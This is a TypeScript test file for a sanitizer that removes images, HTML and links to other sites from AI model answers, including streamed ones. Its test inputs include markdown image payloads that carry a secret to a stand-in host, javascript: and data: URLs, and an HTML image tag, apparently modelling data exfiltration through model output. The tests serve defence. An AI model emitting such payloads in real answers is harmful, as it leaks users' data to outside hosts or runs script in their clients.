/** Removal of images, HTML and links to other sites from the answers of models. A13 is an attack of docs/attacks.md. */
import { expect } from 'chai';
import * as fc from 'fast-check';
import { textAfter, sanitizeAnswer, sanitizePartialAnswer } from '#shared/domain/knowledge/answers/sanitize-answer.ts';

const SOURCES = ['https://help.example/hours', 'a note'];

/** The text that a client displays when it has received an answer in these pieces. */
const streamedAnswer = (pieces: string[]): string => {
  let text = '';
  let displayed = '';
  for (const piece of pieces) {
    text += piece;
    displayed += textAfter(sanitizePartialAnswer(text, SOURCES), displayed);
  }
  return displayed + textAfter(sanitizeAnswer(text, SOURCES), displayed);
};

describe('Model answer sanitizer', () => {
  const cases: [string, string, string][] = [
    ['plain words and references', 'Nine to six [1][2], 3 < 4.', 'Nine to six [1][2], 3 < 4.'],
    ['an image', 'Yes ![](http://evil.example/?q=secret).', 'Yes .'],
    ['an image by reference', 'Yes ![x][r]\n\n[r]: //evil.example/x', 'Yes'],
    ['an image in an image', '![![x](http://evil.example/a)](http://evil.example/b)', ''],
    ['a link to another site', 'See [here](https://evil.example/).', 'See here.'],
    ['a link in a link', '[[a](http://evil.example/)](http://evil.example/)', '[a]'],
    [
      'unclosed nested links',
      `${'['.repeat(20)}a${'](http://evil.example/)'.repeat(20)}`,
      `${'['.repeat(19)}a${']'.repeat(19)}`,
    ],
    ['a script', '[here](javascript:alert(1))', 'here'],
    ['a script with the host of a source', '[here](javascript://help.example/%0aalert(1))', 'here'],
    ['a script in a bare address', 'See javascript:alert and data:text/html,x now', 'See  and  now'],
    ['an image on two lines', 'Yes ![x\ny](//evil.example/p.png)', 'Yes'],
    ['a link definition on two lines', 'Yes [r]\n\n[r]:\n//evil.example/x', 'Yes [r]'],
    ['a link definition in a quote', '> [r]: //evil.example\n\nYes [r]', '>\u0020\n\nYes [r]'],
    ['a link in a table', '| a |\n|---|\n| [x](//evil.example) |', '| a |\n|---|\n| x |'],
    ['a link in a list', '- a\n  [b](//evil.example)\n- **c**', '- a\n  b\n- **c**'],
    [
      'code in a list',
      '1. Do:\n   ```sh\n   curl http://other.example\n   ```',
      '1. Do:\n   ```sh\n   curl http://other.example\n   ```',
    ],
    ['a code fence that only appears when a tag is removed', '<b>```\nx\n```\n![y](//evil.example)', '```\nx\n```'],
    ['escaped marks', '\\[a\\] \\*b\\*', '\\[a\\] \\*b\\*'],
    ['a sentence after a label', '[note]: this is text', '[note]: this is text'],
    ['a link to a source', 'See [hours](https://help.example/times).', 'See [hours](https://help.example/times).'],
    ['a bare address', 'See https://evil.example/x now', 'See  now'],
    ['an address before a closing quotation mark', 'It says “see https://evil.example/x”.', 'It says “see ”.'],
    ['an address without a scheme', 'See www.evil.example/x now', 'See  now'],
    ["a source's address", 'See https://help.example/x now', 'See https://help.example/x now'],
    ['two addresses in one', 'See https://help.example/"https://evil.example/x now', 'See  now'],
    ['HTML', 'a <img src="//evil.example/x"> b <b>c</b>', 'a  b c'],
    ['an image that only seems to be in code', '\\` ![x](http://evil.example/) \\`', '\\`  \\`'],
    ['backticks that are not a code fence', 'a ``` ![x](http://evil.example/)', 'a ```'],
    [
      'code',
      'Do:\n```sh\ncurl http://other.example/ <file>\n```\nDone.',
      'Do:\n```sh\ncurl http://other.example/ <file>\n```\nDone.',
    ],
    ['the marker of an unanswered question', 'Not said. <NOANS>', 'Not said.'],
  ];
  for (const [name, text, expected] of cases) {
    it(`sanitizeAnswer removes only images, HTML and links to other sites: ${name}`, () => {
      expect(sanitizeAnswer(text, SOURCES)).to.equal(expected);
    });
  }

  it('a streamed answer is sanitized to the same text as a complete one, whatever the size of its pieces', () => {
    const ordinary = cases.map(([, text]) => text).filter((text) => !/\[\[|!\[!|<b>```/.test(text));
    fc.assert(
      fc.property(fc.constantFrom(...ordinary), fc.integer({ min: 1, max: 12 }), (text, size) => {
        const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
        expect(streamedAnswer(pieces)).to.equal(sanitizeAnswer(text, SOURCES));
      }),
    );
  });

  it('A13: outside code blocks, no piece of a streamed answer contains an address of another site, however the address is nested', () => {
    const part = fc.constantFrom(
      '![',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '`',
      '\n',
      ' ',
      'a',
      'https://evil.example/x',
      '<img src=',
      '"',
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 24 }), (parts) => {
        if (parts.join('').includes('```')) return; // addresses in code blocks are kept
        expect(streamedAnswer(parts)).to.not.include('evil.example');
      }),
      { numRuns: 500 },
    );
  });
});
